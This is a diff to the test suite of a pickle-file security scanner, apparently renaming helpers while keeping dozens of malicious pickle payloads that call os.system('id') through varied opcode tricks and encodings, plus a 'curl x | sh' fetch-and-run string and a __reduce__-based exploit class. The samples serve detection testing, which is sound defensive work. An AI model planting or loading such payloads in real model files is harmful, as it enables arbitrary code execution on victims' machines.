@@ -13,16 +13,16 @@ from tests.scan.pickler import (
     PROTO,
     call,
     data,
-    evil,
-    look,
+    describe,
+    malicious_pickle,
     named,
     number,
+    pickle_stream,
     rules,
-    said,
+    scan_bytes,
     stacked,
     text,
     tuple_of,
-    whole,
     worst,
 )
 
@@ -34,58 +34,62 @@ SIMPLE = call(named("types", "SimpleNamespace"))
 LOADER = named("torch.storage", "_load_from_bytes")
 BYTES = call(named("builtins", "bytes"))
 RUNS = {
-    "reduce": whole(call(SYSTEM, text("id"))),
-    "stack_global": whole(call(stacked("posix", "system"), text("id"))),
+    "reduce": pickle_stream(call(SYSTEM, text("id"))),
+    "stack_global": pickle_stream(call(stacked("posix", "system"), text("id"))),
     "protocol 0": b"cos\nsystem\n(S'id'\ntR.",
     "protocol 0 without an end": b"cos\nsystem\n(S'id'\ntR",
     "protocol 1": b"cposix\nsystem\nq\x00(U\x02idtq\x01Rq\x02.",
     "inst": b"(S'id'\nios\nsystem\n.",
-    "obj": whole(b"(" + SYSTEM + text("id") + b"o"),
-    "newobj": whole(SYSTEM + tuple_of(text("id")) + b"\x81"),
-    "newobj_ex": whole(SYSTEM + tuple_of(text("id")) + b"}\x92"),
-    "memo": whole(SYSTEM + b"\x940" + text("id") + b"\x85\x940h\x00h\x01R"),
-    "memo, far": whole(SYSTEM + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text("id") + b"\x85R"),
-    "memo, by lines": whole(SYSTEM + b"p77\n0g77\n" + text("id") + b"\x85R"),
-    "memo, written over": whole(stacked("builtins", "set") + b"q\x00" + SYSTEM + b"q\x00h\x00" + text("id") + b"\x85R"),
-    "memo of names": whole(text("os") + b"\x94" + text("system") + b"\x94h\x00h\x01\x93" + text("id") + b"\x85R"),
-    "dup": whole(SYSTEM + b"20" + text("id") + b"\x85R"),
-    "popped": whole(call(SYSTEM, text("id")) + b"0N"),
-    "popped with a mark": whole(b"(" + call(SYSTEM, text("id")) + b"1N"),
+    "obj": pickle_stream(b"(" + SYSTEM + text("id") + b"o"),
+    "newobj": pickle_stream(SYSTEM + tuple_of(text("id")) + b"\x81"),
+    "newobj_ex": pickle_stream(SYSTEM + tuple_of(text("id")) + b"}\x92"),
+    "memo": pickle_stream(SYSTEM + b"\x940" + text("id") + b"\x85\x940h\x00h\x01R"),
+    "memo, far": pickle_stream(SYSTEM + b"r\xff\xff\xff\x7f0j\xff\xff\xff\x7f" + text("id") + b"\x85R"),
+    "memo, by lines": pickle_stream(SYSTEM + b"p77\n0g77\n" + text("id") + b"\x85R"),
+    "memo, written over": pickle_stream(
+        stacked("builtins", "set") + b"q\x00" + SYSTEM + b"q\x00h\x00" + text("id") + b"\x85R"
+    ),
+    "memo of names": pickle_stream(
+        text("os") + b"\x94" + text("system") + b"\x94h\x00h\x01\x93" + text("id") + b"\x85R"
+    ),
+    "dup": pickle_stream(SYSTEM + b"20" + text("id") + b"\x85R"),
+    "popped": pickle_stream(call(SYSTEM, text("id")) + b"0N"),
+    "popped with a mark": pickle_stream(b"(" + call(SYSTEM, text("id")) + b"1N"),
     "python 2's names": b"c__builtin__\neval\n(S'1'\ntR.",
     "python 2's modules": b"ccommands\ngetoutput\n(S'id'\ntR.",
-    "dotted name": whole(call(stacked("torch.serialization", "os.system"), text("id"))),
-    "dotted name, allowed module": whole(call(stacked("collections", "abc.sys.modules.get"), text("os"))),
-    "class's method": whole(call(stacked("code", "InteractiveInterpreter.runcode"), b"}", text("1"))),
+    "dotted name": pickle_stream(call(stacked("torch.serialization", "os.system"), text("id"))),
+    "dotted name, allowed module": pickle_stream(call(stacked("collections", "abc.sys.modules.get"), text("os"))),
+    "class's method": pickle_stream(call(stacked("code", "InteractiveInterpreter.runcode"), b"}", text("1"))),
     "frame too long": PROTO + b"\x95" + struct.pack("<Q", 2**62) + call(SYSTEM, text("id")) + b".",
     "frame too short": PROTO + b"\x95" + struct.pack("<Q", 1) + call(SYSTEM, text("id")) + b".",
-    "protocol in the middle": whole(b"N0\x80\x02" + call(SYSTEM, text("id"))),
+    "protocol in the middle": pickle_stream(b"N0\x80\x02" + call(SYSTEM, text("id"))),
     "broken behind": PROTO + call(SYSTEM, text("id")) + b"\xff\xff\xff",
     "cut behind": PROTO + call(SYSTEM, text("id")) + b"X\xff\xff\xff\x7fabc",
-    "unbalanced before": whole(b"(0" + call(SYSTEM, text("id"))),
-    "handed over": whole(call(named("collections", "defaultdict"), SYSTEM)),
-    "as state": whole(SIMPLE + b"}" + text("__setstate__") + SYSTEM + b"sb" + text("id") + b"b"),
-    "module without a name": whole(call(stacked("builtins", "__import__"), text("evil"))),
-    "getattr": whole(call(call(named("builtins", "getattr"), OS, text("system")), text("id"))),
-    "attrgetter": whole(call(call(GETTER, MODULE), text("id"))),
-    "partial": whole(call(call(named("functools", "partial"), SYSTEM), text("id"))),
-    "eval": whole(call(named("builtins", "eval"), text("1"))),
-    "pip": whole(call(named("pip._internal.cli.main", "main"), b"]")),
-    "runpy": whole(call(named("runpy", "run_path"), text("x"))),
-    "pickle": whole(call(named("pickle", "loads"), data(b"N."))),
-    "torch.load": whole(call(named("torch", "load"), text("x"))),
-    "numpy.load": whole(call(named("numpy", "load"), text("x"))),
-    "timeit": whole(call(named("timeit", "timeit"), text("1"))),
-    "code objects": whole(call(named("types", "CodeType"), number(0))),
-    "marshal": whole(call(named("marshal", "loads"), data(b"xx"))),
-    "asyncio": whole(call(named("asyncio.unix_events", "_UnixSubprocessTransport._start"), b"}")),
+    "unbalanced before": pickle_stream(b"(0" + call(SYSTEM, text("id"))),
+    "handed over": pickle_stream(call(named("collections", "defaultdict"), SYSTEM)),
+    "as state": pickle_stream(SIMPLE + b"}" + text("__setstate__") + SYSTEM + b"sb" + text("id") + b"b"),
+    "module without a name": pickle_stream(call(stacked("builtins", "__import__"), text("evil"))),
+    "getattr": pickle_stream(call(call(named("builtins", "getattr"), OS, text("system")), text("id"))),
+    "attrgetter": pickle_stream(call(call(GETTER, MODULE), text("id"))),
+    "partial": pickle_stream(call(call(named("functools", "partial"), SYSTEM), text("id"))),
+    "eval": pickle_stream(call(named("builtins", "eval"), text("1"))),
+    "pip": pickle_stream(call(named("pip._internal.cli.main", "main"), b"]")),
+    "runpy": pickle_stream(call(named("runpy", "run_path"), text("x"))),
+    "pickle": pickle_stream(call(named("pickle", "loads"), data(b"N."))),
+    "torch.load": pickle_stream(call(named("torch", "load"), text("x"))),
+    "numpy.load": pickle_stream(call(named("numpy", "load"), text("x"))),
+    "timeit": pickle_stream(call(named("timeit", "timeit"), text("1"))),
+    "code objects": pickle_stream(call(named("types", "CodeType"), number(0))),
+    "marshal": pickle_stream(call(named("marshal", "loads"), data(b"xx"))),
+    "asyncio": pickle_stream(call(named("asyncio.unix_events", "_UnixSubprocessTransport._start"), b"}")),
 }  # fmt: skip
 
 
 @pytest.mark.parametrize("name", RUNS)
-def test_what_runs_code_is_critical(name):
-    found = look(RUNS[name])
-    assert found.verdict is Verdict.FINDINGS, said(found)
-    assert "pickle-runs-code" in rules(found), said(found)
+def test_code_execution_is_critical(name):
+    found = scan_bytes(RUNS[name])
+    assert found.verdict is Verdict.FINDINGS, describe(found)
+    assert "pickle-runs-code" in rules(found), describe(found)
     assert worst(found) is Severity.CRITICAL
 
 
@@ -110,10 +114,10 @@ HIGH = {
 
 
 @pytest.mark.parametrize("name", HIGH)
-def test_what_may_run_code_is_high(name):
+def test_possible_code_execution_is_high(name):
     body, rule = HIGH[name]
-    found = look(whole(body))
-    assert rule in rules(found), said(found)
+    found = scan_bytes(pickle_stream(body))
+    assert rule in rules(found), describe(found)
     assert worst(found) >= Severity.HIGH
 
 
@@ -132,80 +136,82 @@ MEDIUM = {
 
 
 @pytest.mark.parametrize("name", MEDIUM)
-def test_what_no_pickler_writes_is_found(name):
+def test_opcodes_that_no_pickler_writes_are_found(name):
     body, rule = MEDIUM[name]
-    found = look(whole(body))
-    assert rule in rules(found), said(found)
+    found = scan_bytes(pickle_stream(body))
+    assert rule in rules(found), describe(found)
     assert worst(found) >= Severity.MEDIUM
 
 
-def test_calling_an_unknown_global_is_worse_than_importing_it():
-    assert worst(look(whole(named("a.b", "c")))) is Severity.MEDIUM
-    assert worst(look(whole(call(named("a.b", "c"))))) is Severity.HIGH
+def test_call_of_unknown_global_is_worse_than_import():
+    assert worst(scan_bytes(pickle_stream(named("a.b", "c")))) is Severity.MEDIUM
+    assert worst(scan_bytes(pickle_stream(call(named("a.b", "c"))))) is Severity.HIGH
 
 
-def test_a_finding_says_what_is_called_and_where():
-    found = look(whole(b"N0" + call(SYSTEM, text("curl x | sh"))))
+def test_finding_names_call_and_offset():
+    found = scan_bytes(pickle_stream(b"N0" + call(SYSTEM, text("curl x | sh"))))
     (one,) = found.findings
     assert one.what == "calls os.system('curl x | sh')"
     assert one.offset == 4
 
 
-def test_arguments_cannot_write_to_a_terminal():
-    (one,) = look(whole(call(SYSTEM, text("\x1b[2J\n\u202e")))).findings
+def test_arguments_in_findings_are_printable():
+    (one,) = scan_bytes(pickle_stream(call(SYSTEM, text("\x1b[2J\n\u202e")))).findings
     assert one.what.isascii()
     assert one.what.isprintable()
 
 
 NESTED = {
-    "bytes": data(evil()),
+    "bytes": data(malicious_pickle()),
     "bytes, protocol 0": data(b"cos\nsystem\n(S'id'\ntR."),
-    "twice": data(whole(data(evil()))),
-    "base64": text(base64.b64encode(evil()).decode()),
-    "base64, for addresses": text(base64.urlsafe_b64encode(evil("subprocess", "call", "\u00ff" * 40)).decode()),
-    "base64, in lines": text(base64.encodebytes(whole(text("x" * 90) + EVIL)).decode()),
-    "base64 as bytes": data(base64.b64encode(evil())),
-    "hexadecimal": text(evil().hex()),
-    "latin-1 of protocol 2": text(evil().decode("latin-1")),
-    "long latin-1": text(whole(text("x" * 600) + EVIL).decode("latin-1")),
-    "long base64": text(base64.b64encode(whole(text("x" * 9000) + EVIL)).decode()),
-    "python 2's string": b"T" + struct.pack("<i", len(evil())) + evil(),
-    "quoted string": b"S" + ascii(evil().decode("latin-1")).encode() + b"\n",
-    "bytearray": b"\x96" + struct.pack("<Q", len(evil())) + evil(),
-    "tensor": call(named("torch.storage", "_load_from_bytes"), data(evil())),
+    "twice": data(pickle_stream(data(malicious_pickle()))),
+    "base64": text(base64.b64encode(malicious_pickle()).decode()),
+    "base64, for addresses": text(
+        base64.urlsafe_b64encode(malicious_pickle("subprocess", "call", "\u00ff" * 40)).decode()
+    ),
+    "base64, in lines": text(base64.encodebytes(pickle_stream(text("x" * 90) + EVIL)).decode()),
+    "base64 as bytes": data(base64.b64encode(malicious_pickle())),
+    "hexadecimal": text(malicious_pickle().hex()),
+    "latin-1 of protocol 2": text(malicious_pickle().decode("latin-1")),
+    "long latin-1": text(pickle_stream(text("x" * 600) + EVIL).decode("latin-1")),
+    "long base64": text(base64.b64encode(pickle_stream(text("x" * 9000) + EVIL)).decode()),
+    "python 2's string": b"T" + struct.pack("<i", len(malicious_pickle())) + malicious_pickle(),
+    "quoted string": b"S" + ascii(malicious_pickle().decode("latin-1")).encode() + b"\n",
+    "bytearray": b"\x96" + struct.pack("<Q", len(malicious_pickle())) + malicious_pickle(),
+    "tensor": call(named("torch.storage", "_load_from_bytes"), data(malicious_pickle())),
 }
 
 
 @pytest.mark.parametrize("name", NESTED)
-def test_a_pickle_in_a_constant_is_found(name):
-    found = look(whole(NESTED[name]))
-    assert "pickle-runs-code" in rules(found), said(found)
+def test_pickle_in_constant_is_found(name):
+    found = scan_bytes(pickle_stream(NESTED[name]))
+    assert "pickle-runs-code" in rules(found), describe(found)
     assert all("@" in one.member for one in found.findings if one.rule.id == "pickle-runs-code")
 
 
-def test_a_harmless_pickle_in_a_constant_is_a_low_finding():
-    found = look(whole(data(pickle.dumps({"a": 1}))))
+def test_harmless_pickle_in_constant_is_low():
+    found = scan_bytes(pickle_stream(data(pickle.dumps({"a": 1}))))
     assert (rules(found), worst(found)) == ({"pickle-in-constant"}, Severity.LOW)
-    tensors = whole(call(named("torch.storage", "_load_from_bytes"), data(pickle.dumps({"a": 1}))))
-    assert look(tensors).verdict is Verdict.CLEAN
+    tensors = pickle_stream(call(named("torch.storage", "_load_from_bytes"), data(pickle.dumps({"a": 1}))))
+    assert scan_bytes(tensors).verdict is Verdict.CLEAN
 
 
-def test_bytes_of_a_tensor_that_are_no_file_are_a_gap():
-    found = look(whole(call(named("torch.storage", "_load_from_bytes"), data(b"\xff" * 20))))
+def test_tensor_bytes_that_are_not_a_file_are_a_gap():
+    found = scan_bytes(pickle_stream(call(named("torch.storage", "_load_from_bytes"), data(b"\xff" * 20))))
     assert found.verdict is Verdict.PARTIAL
 
 
-def test_the_users_list_allows_exactly_what_it_says():
+def test_user_list_allows_only_its_names():
     body = call(named("mine.layers", "Block"))
-    assert look(whole(body), "mine.layers.Block").verdict is Verdict.CLEAN
-    assert look(whole(body), "mine.*").verdict is Verdict.CLEAN
-    assert look(whole(body), "mine.layers.Other").verdict is Verdict.FINDINGS
-    assert look(whole(body), "mine.layer.*").verdict is Verdict.FINDINGS
-    assert look(whole(call(stacked("mine.layers", "os.system"))), "mine.*").verdict is Verdict.FINDINGS
-    assert look(whole(call(named("mine.layers", "__loader__"))), "mine.*").verdict is Verdict.FINDINGS
+    assert scan_bytes(pickle_stream(body), "mine.layers.Block").verdict is Verdict.CLEAN
+    assert scan_bytes(pickle_stream(body), "mine.*").verdict is Verdict.CLEAN
+    assert scan_bytes(pickle_stream(body), "mine.layers.Other").verdict is Verdict.FINDINGS
+    assert scan_bytes(pickle_stream(body), "mine.layer.*").verdict is Verdict.FINDINGS
+    assert scan_bytes(pickle_stream(call(stacked("mine.layers", "os.system"))), "mine.*").verdict is Verdict.FINDINGS
+    assert scan_bytes(pickle_stream(call(named("mine.layers", "__loader__"))), "mine.*").verdict is Verdict.FINDINGS
 
 
-def test_the_allow_list_has_no_name_of_a_denied_one():
+def test_allow_list_and_deny_list_are_disjoint():
     from buildkit.scan.pickle.lists import Standing, allowed_names, find_denial
 
     bad = [
@@ -218,12 +224,12 @@ def test_the_allow_list_has_no_name_of_a_denied_one():
 
 
 @pytest.mark.parametrize("protocol", range(6))
-def test_a_real_pickler_calling_system_is_found(protocol):
+def test_system_call_by_real_pickler_is_found(protocol):
     class Evil:
         def __reduce__(self):
             import os
 
             return os.system, ("id",)
 
-    found = look(pickle.dumps({"weights": [1.0, Evil()]}, protocol=protocol))
+    found = scan_bytes(pickle.dumps({"weights": [1.0, Evil()]}, protocol=protocol))
     assert rules(found) == {"pickle-runs-code"}
